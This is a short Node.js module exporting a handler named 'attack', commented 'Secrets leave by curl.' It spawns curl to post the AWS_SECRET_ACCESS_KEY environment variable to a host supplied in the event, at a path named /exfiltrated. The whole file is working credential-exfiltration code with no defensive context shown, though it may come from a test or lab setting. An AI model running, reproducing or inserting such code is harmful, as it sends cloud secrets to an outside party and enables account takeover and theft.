// Secrets leave by curl.
'use strict';
const { spawn } = require('child_process');

exports.attack = (event) => new Promise((resolve, reject) => {
  const url = `http://${event.web}/exfiltrated`;
  const child = spawn('curl', ['-sS', '-m', '5', '-d', process.env.AWS_SECRET_ACCESS_KEY, url]);
  child.on('error', reject);
  child.on('close', resolve);
});
